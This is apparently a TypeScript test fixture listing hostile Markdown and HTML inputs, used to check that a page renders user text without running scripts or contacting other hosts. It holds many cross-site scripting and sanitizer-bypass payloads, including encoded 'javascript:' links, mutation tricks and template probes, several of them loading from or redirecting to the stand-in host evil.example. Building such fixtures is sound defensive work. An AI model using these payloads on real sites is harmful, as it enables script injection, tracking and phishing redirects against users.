/** What a page must never do, whatever somebody wrote: call anybody elsewhere, ask, or set this. */
export const MARK = 'hostileTextRan';
const RUN = `window.${MARK}=1`;
const ELSEWHERE = 'https://evil.example';

/** Markdown and HTML that would run, load, send, hide or lead elsewhere if it were let. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror\u000A=\u000A"${RUN}">`,
  `<img/src=x/onerror=${RUN}//`,
  `![pixel](${ELSEWHERE}/pixel.gif)`,
  `![x](x "x\\" onerror=\\"${RUN}")`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<iframe src="javascript:parent.${MARK}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<object data="${ELSEWHERE}/x.swf"></object><embed src="${ELSEWHERE}/x.swf">`,
  `<form action="${ELSEWHERE}"><input name=email autofocus onfocus="${RUN}"><button>Sign</button></form>`,
  `<video src=x onerror="${RUN}" autoplay></video><audio src=x onerror="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<style>@import '${ELSEWHERE}/x.css'; * { display: none }</style>`,
  `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/x)" onclick="${RUN}" id="sign" class="button">x</p>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](&#x6A&#x61&#x76&#x61script:${RUN})`,
  `[x](java&Tab;script:${RUN})`,
  `[x](java%0ascript:${RUN})`,
  `[x](<java\tscript:${RUN}>)`,
  `[x](vbscript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](file:///etc/passwd) [x](//evil.example)`,
  `[x][y]\n\n[y]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<a href="  javascript:${RUN}">x</a><a href="&#1;javascript:${RUN}">x</a>`,
  `<a href="https://example.org" onmouseover="${RUN}" target=_blank ping="${ELSEWHERE}">x</a>`,
  `<!--><img src=x onerror="${RUN}">--><![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<template><img src=x onerror="${RUN}"></template><textarea></textarea><img src=x onerror="${RUN}">`,
  `${'> '.repeat(120)}<script>${RUN}</script>`,
  `${'<b><i>'.repeat(200)}x`,
];

/** All of it in one text. */
export const HOSTILE_BODY = HOSTILE_MARKDOWN.join('\n\n');
/** For one line: a title, a name. */
export const HOSTILE_LINE = `"><img src=x onerror="${RUN}"><script>${RUN}</script>`;
/** For a line that is also part of a script, of JSON or of an address. */
export const HOSTILE_END = `</script><script>${RUN}</script>{{7*7}}\${7*7}`;
